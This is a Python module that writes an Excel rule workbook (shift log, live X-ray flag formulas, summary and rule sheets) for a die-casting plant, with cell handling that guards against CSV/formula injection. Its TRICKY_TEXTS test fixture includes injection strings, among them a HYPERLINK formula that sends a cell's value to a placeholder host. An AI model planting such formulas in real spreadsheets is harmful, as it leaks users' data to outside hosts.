"""The MVP as the quality lead sees it: the shift log in a real .xlsx with a live rule column.

:func:`write_rule_workbook` writes three sheets with openpyxl:

* **Shift log**: the columns known when a part is routed (never the truth ``defect`` /
  ``defect_type`` nor ``rework_minutes``, which is written after inspection), then a LIVE
  formula column ``send_to_xray`` holding :meth:`pocmvp.toolkit.rule.Rule.excel_formula` for
  each row;
  conditional formatting highlights the parts to test and, for a rule scoped to shifts, marks
  a shift cell whose text the rule does not recognise (say ``Night``), since such a part only
  meets the rule's unscoped conditions. Frozen header, autofilter, widths set.
* **Summary**: live formulas: parts, parts flagged (``COUNTIF``), the X-ray capacity, the
  capacity used, overall and per month (``COUNTIFS`` over the cast dates).
* **Rule**: the rule in plain words, its formula and SQL, and how missing values are treated.

Text from the data never becomes a formula: every cell is made by :mod:`pocmvp.toolkit.cells`,
so a supplier named ``=HYPERLINK(...)`` stays text (OWASP's CSV injection advice, applied to
.xlsx). Characters a spreadsheet cannot hold (control characters) are replaced by U+FFFD.
Datetimes are real dates with a number format. The same rows and rule give a byte-identical
file (fixed document dates and zip timestamps). openpyxl stores no computed values, so a
spreadsheet computes every formula when it opens the file;
:mod:`pocmvp.toolkit.spreadsheet_engine` does that with LibreOffice to check the Python rule.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Sequence
from pathlib import Path

import numpy as np
import pandas as pd
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.formatting.rule import CellIsRule, FormulaRule
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter

from pocmvp.case import factory
from pocmvp.case.status_quo import ECONOMICS, PlantEconomics
from pocmvp.toolkit import cells
from pocmvp.toolkit.rule import SHIFT_COLUMN, WORKBOOK_COLUMNS, Rule, validate_for_rule

DATA_SHEET = "Shift log"
SUMMARY_SHEET = "Summary"
RULE_SHEET = "Rule"
FLAG_HEADER = "send_to_xray"
FLAG_COLUMN = get_column_letter(len(WORKBOOK_COLUMNS) + 1)
"""The letter of the rule's formula column on the data sheet."""

HIGHLIGHT = PatternFill(start_color="FFE69F00", end_color="FFE69F00", fill_type="solid")
OVER_CAPACITY = PatternFill(start_color="FFD55E00", end_color="FFD55E00", fill_type="solid")
_BOLD = Font(bold=True)
_WIDTHS = {"part_id": 13, "cast_at": 17, "alloy_lot": 11, "shots_since_maintenance": 12}
_FORMATS = {
    "cast_at": "yyyy-mm-dd hh:mm",
    "shots_since_maintenance": "#,##0",
    "melt_temp_c": "0.0",
    "die_temp_c": "0.0",
    "cycle_time_s": "0.0",
    "scrap_share_pct": "0.0",
    "humidity_pct": "0.0",
}
_FIELDS = {f.name: f for f in factory.SHIFT_LOG_FIELDS}

# Summary sheet: the cells the overall figures live in (label in A, value in B).
SUMMARY_CELLS = {
    "parts": "B3",
    "flagged": "B4",
    "flagged_share": "B5",
    "capacity_share": "B6",
    "capacity": "B7",
    "capacity_used": "B8",
}
FIXED_DATE = dt.datetime(2000, 1, 1)
"""The workbook's document date when the shift log has no date (otherwise its last cast)."""
MONTH_TABLE_FIRST_ROW = 12
"""First row of the summary's per-month table (month, from, to, parts, flagged, capacity,
capacity used), one row per month in the workbook."""


def write_rule_workbook(
    shift_log: pd.DataFrame,
    rule: Rule,
    path: str | Path,
    *,
    economics: PlantEconomics = ECONOMICS,
    notes: Sequence[str] = (),
    rejected: pd.DataFrame | None = None,
) -> Path:
    """Write the rule workbook for ``shift_log`` to ``path`` and return the path.

    The shift log is validated first (:func:`pocmvp.toolkit.rule.validate_for_rule`); truth columns
    may be present and are left out. ``notes`` are extra lines for the Rule sheet (e.g. the
    months the rule was chosen on). ``rejected`` (e.g. the id and reason of every rejected
    row) becomes a last sheet, :data:`REJECTED_SHEET`, every row of it. More rows than a
    sheet holds raise :class:`pocmvp.toolkit.cells.TooManyRowsError` before anything is
    written.
    """
    cells.check_row_count(len(shift_log), sheet=DATA_SHEET)  # before any work
    validate_for_rule(shift_log, rule)
    path = Path(path)
    book = Workbook(write_only=True)
    data = book.create_sheet(DATA_SHEET)
    _write_data_sheet(data, shift_log, rule)
    summary = book.create_sheet(SUMMARY_SHEET)
    _write_summary_sheet(summary, shift_log, economics)
    explained = book.create_sheet(RULE_SHEET)
    _write_rule_sheet(explained, rule, economics, notes)
    if rejected is not None:
        write_table_sheet(book.create_sheet(REJECTED_SHEET), rejected)
    # Fixed properties and zip dates: the same rows and rule give the same bytes every run.
    last = shift_log["cast_at"].max()
    return cells.save_reproducibly(book, path, FIXED_DATE if pd.isna(last) else last)


REJECTED_SHEET = "Rejected"


def write_table_sheet(sheet, table: pd.DataFrame) -> None:
    """Write ``table`` (any columns) as values: a bold header row, then one row per record.
    Text stays text, whatever it starts with; dates and numbers keep their type."""
    headers = [str(c) for c in table.columns]
    for index, name in enumerate(headers, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = min(max(10, len(name) + 2), 40)
    sheet.freeze_panes = "A2"
    sheet.append([_text(sheet, h, font=_BOLD) for h in headers])
    writers = [_column_writer(sheet, str(name), table[name]) for name in table.columns]
    for values in zip(*(w[1] for w in writers), strict=True):
        sheet.append([make(v) for make, v in zip((w[0] for w in writers), values, strict=True)])


def write_table_workbook(sheets: dict[str, pd.DataFrame], path: str | Path) -> Path:
    """A workbook of plain tables, one sheet per entry of ``sheets``, in that order."""
    for name, table in sheets.items():
        cells.check_row_count(len(table), sheet=name)
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    book = Workbook(write_only=True)
    for name, table in sheets.items():
        write_table_sheet(book.create_sheet(name), table)
    return cells.save_reproducibly(book, path, FIXED_DATE)


def _text(sheet, value: str, **style) -> WriteOnlyCell:
    """A cell that holds ``value`` as text, whatever it starts with."""
    return cells.data_cell(sheet, str(value), **style)


def _write_data_sheet(sheet, shift_log: pd.DataFrame, rule: Rule) -> None:
    last_row = len(shift_log) + 1
    headers = [*WORKBOOK_COLUMNS, FLAG_HEADER]
    for index, name in enumerate(headers, start=1):
        width = _WIDTHS.get(name, min(max(10, len(name) + 2), 26))
        sheet.column_dimensions[get_column_letter(index)].width = width
    sheet.freeze_panes = "A2"
    sheet.auto_filter.ref = f"A1:{FLAG_COLUMN}{last_row}"
    if rule.scoped:
        shift = get_column_letter(WORKBOOK_COLUMNS.index(SHIFT_COLUMN) + 1)
        known = ",".join(f'EXACT(${shift}2,"{name}")' for name in factory.SHIFTS)
        sheet.conditional_formatting.add(
            f"{shift}2:{shift}{last_row}",
            FormulaRule(formula=[f"NOT(OR({known}))"], fill=OVER_CAPACITY),
        )
    sheet.conditional_formatting.add(
        f"A2:{FLAG_COLUMN}{last_row}",
        FormulaRule(formula=[f"${FLAG_COLUMN}2=TRUE"], fill=HIGHLIGHT),
    )
    sheet.append([_text(sheet, h, font=_BOLD) for h in headers])

    writers = [_column_writer(sheet, name, shift_log[name]) for name in WORKBOOK_COLUMNS]
    columns = [w[1] for w in writers]
    for offset, values in enumerate(zip(*columns, strict=True)):
        row = [make(v) for make, v in zip((w[0] for w in writers), values, strict=True)]
        row.append(rule.excel_formula(offset + 2))
        sheet.append(row)


def _column_writer(sheet, name: str, values: pd.Series):
    """How to turn one column's values into cells (:mod:`pocmvp.toolkit.cells`), and the
    values as Python objects.

    Rows are written as they are appended (write-only mode), so one styled cell per column is
    reused for every row: only its value changes.
    """
    template = WriteOnlyCell(sheet)
    template.number_format = _FORMATS.get(name, "General")

    def make(v):
        return None if v is None else cells.set_data_cell(template, v)

    return make, cells.python_values(values)


def _months(shift_log: pd.DataFrame) -> list[tuple[str, dt.datetime, dt.datetime]]:
    first_days = sorted(shift_log["cast_at"].dt.to_period("M").unique())
    return [
        (str(p), p.start_time.to_pydatetime(), (p + 1).start_time.to_pydatetime())
        for p in first_days
    ]


def _write_summary_sheet(sheet, shift_log: pd.DataFrame, economics: PlantEconomics) -> None:
    last_row = len(shift_log) + 1
    ids = f"'{DATA_SHEET}'!$A$2:$A${last_row}"
    dates = f"'{DATA_SHEET}'!$B$2:$B${last_row}"
    flags = f"'{DATA_SHEET}'!${FLAG_COLUMN}$2:${FLAG_COLUMN}${last_row}"
    for letter, width in zip("ABCDEFG", (38, 14, 14, 10, 10, 10, 14), strict=True):
        sheet.column_dimensions[letter].width = width
    c = SUMMARY_CELLS
    sheet.conditional_formatting.add(
        c["capacity_used"], CellIsRule(operator="greaterThan", formula=["1"], fill=OVER_CAPACITY)
    )
    rows = [
        [_text(sheet, "The rule's load on the X-ray cell", font=Font(bold=True, size=14))],
        [_text(sheet, "Every figure is a live formula over the Shift log sheet.")],
        [_text(sheet, "Parts in this workbook"), f"=COUNTA({ids})"],
        [_text(sheet, "Parts to test (flagged by the rule)"), f"=COUNTIF({flags},TRUE)"],
        [
            _text(sheet, "Share of parts flagged"),
            _styled(sheet, f"=IF({c['parts']}>0,{c['flagged']}/{c['parts']},0)", "0.0%"),
        ],
        [
            _text(sheet, "X-ray capacity (share of each month's parts)"),
            _styled(sheet, economics.inspection_capacity_share, "0.0%"),
        ],
        [_text(sheet, "X-ray capacity (parts)"), f"=INT({c['parts']}*{c['capacity_share']})"],
        [
            _text(sheet, "Capacity used (over 100 % means more flags than tests)"),
            _styled(sheet, f"=IF({c['capacity']}>0,{c['flagged']}/{c['capacity']},0)", "0%"),
        ],
        [],
        [_text(sheet, "Per month", font=_BOLD)],
        [
            _text(sheet, h, font=_BOLD)
            for h in (
                "month",
                "from",
                "to (excluded)",
                "parts",
                "flagged",
                "capacity",
                "capacity used",
            )
        ],
    ]
    for row in rows:
        sheet.append(row)
    months = _months(shift_log)
    first = MONTH_TABLE_FIRST_ROW
    if months:
        span = f"G{first}:G{first + len(months) - 1}"
        sheet.conditional_formatting.add(
            span, CellIsRule(operator="greaterThan", formula=["1"], fill=OVER_CAPACITY)
        )
    for offset, (label, start, end) in enumerate(months):
        r = first + offset
        in_month = f'{dates},">="&B{r},{dates},"<"&C{r}'
        sheet.append(
            [
                _text(sheet, label),
                _styled(sheet, start, "yyyy-mm-dd"),
                _styled(sheet, end, "yyyy-mm-dd"),
                f"=COUNTIFS({in_month})",
                f"=COUNTIFS({in_month},{flags},TRUE)",
                f"=INT(D{r}*{c['capacity_share']})",
                _styled(sheet, f"=IF(F{r}>0,E{r}/F{r},0)", "0%"),
            ]
        )


def _styled(sheet, value, number_format: str) -> WriteOnlyCell:
    cell = WriteOnlyCell(sheet, value=value)
    cell.number_format = number_format
    return cell


def _write_rule_sheet(sheet, rule: Rule, economics: PlantEconomics, notes: Sequence[str]) -> None:
    sheet.column_dimensions["A"].width = 28
    sheet.column_dimensions["B"].width = 100
    wrap = Alignment(wrap_text=True, vertical="top")
    lines = [
        ("The rule", rule.describe()),
        ("Formula (row 2)", rule.excel_formula(2)),
        ("SQL", "SELECT * FROM shift_log WHERE " + rule.sql_where()),
        (
            "Missing values",
            "An empty cell (a value that was not recorded) never sends a part to the test on "
            "its own; another condition of the rule still can. Text in a number column "
            "counts as missing here: fix the entry.",
        ),
        *_shift_lines(rule),
        (
            "Capacity",
            f"The X-ray cell tests {economics.inspection_capacity_share:.0%} of each month's "
            "parts. The Summary sheet shows how much of it the rule uses.",
        ),
        (
            "How to use",
            f"Filter column {FLAG_COLUMN} ({FLAG_HEADER}) on TRUE: "
            "those parts go to the X-ray test.",
        ),
        *[("Note", note) for note in notes],
        ("", ""),
        ("Column", "Meaning"),
        *[(name, _describe_field(name)) for name in rule.input_columns],
    ]
    sheet.append([_text(sheet, "The rule in plain words", font=Font(bold=True, size=14))])
    for label, text in lines:
        sheet.append([_text(sheet, label, font=_BOLD), _text(sheet, text, alignment=wrap)])


def _shift_lines(rule: Rule) -> list[tuple[str, str]]:
    """How a rule scoped to shifts reads the shift column (nothing for an unscoped rule)."""
    if not rule.scoped:
        return []
    names = ", ".join(factory.SHIFTS)
    return [
        (
            "Shifts",
            "A condition 'on the night shift' (or another shift) applies only to rows whose "
            f"shift cell holds exactly that shift's name, in lower case ({names}). A shift "
            "cell marked red holds none of these names: only the conditions for every shift "
            "can send that part, so correct the entry.",
        )
    ]


def _describe_field(name: str) -> str:
    field = _FIELDS[name]
    unit = f" ({field.unit})" if field.unit else ""
    return f"{field.meaning}{unit}"


TRICKY_TEXTS = (
    '=HYPERLINK("http://x.example/?"&A2,"x")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "Gießerei Süd",
    "合金",
    "TRUE",
    "'quoted",
)
"""Text that a careless writer would turn into formulas, numbers or mojibake."""


def tricky_rows(shift_log: pd.DataFrame, rule: Rule) -> pd.DataFrame:
    """Valid shift-log rows built to trip a spreadsheet, from the first rows of ``shift_log``:
    each rule column exactly at its threshold and one recorded step to either side, missing
    where the column may be missing (for a condition scoped to shifts: on one of its shifts
    and on a shift outside its scope), and text that starts with ``= + - @`` or is not ASCII.
    """
    rows = []
    template = shift_log.iloc[0]
    for condition in rule.conditions:
        field = _FIELDS[condition.column]
        step = 1.0 if field.dtype == "int64" else 0.1
        values = [condition.threshold + d * step for d in (-1, 0, 1)]
        if field.nullable:
            values.append(np.nan)
        shifts = [template[SHIFT_COLUMN]]
        if condition.scoped:
            outside = [s for s in factory.SHIFTS if s not in condition.shifts]
            shifts = [condition.shifts[0], *outside[:1]]
        for value in values:
            for shift in shifts:
                row = template.copy()
                row[condition.column] = value
                row[SHIFT_COLUMN] = shift
                rows.append(row)
    nothing = template.copy()
    for condition in rule.conditions:
        if _FIELDS[condition.column].nullable:
            nothing[condition.column] = np.nan
    rows.append(nothing)
    text_columns = ("supplier", "alloy_lot", "mould_id", "cell")
    for index, text in enumerate(TRICKY_TEXTS):
        row = shift_log.iloc[(index + 1) % len(shift_log)].copy()
        for column in text_columns:
            row[column] = text
        rows.append(row)
    tricky = pd.DataFrame(rows).reset_index(drop=True)
    tricky["part_id"] = [f"T-{i:04d}" for i in range(len(tricky))]
    tricky.loc[len(tricky) - 1, "part_id"] = "=A1"  # an id that looks like a formula
    return tricky.astype(shift_log.dtypes.to_dict())
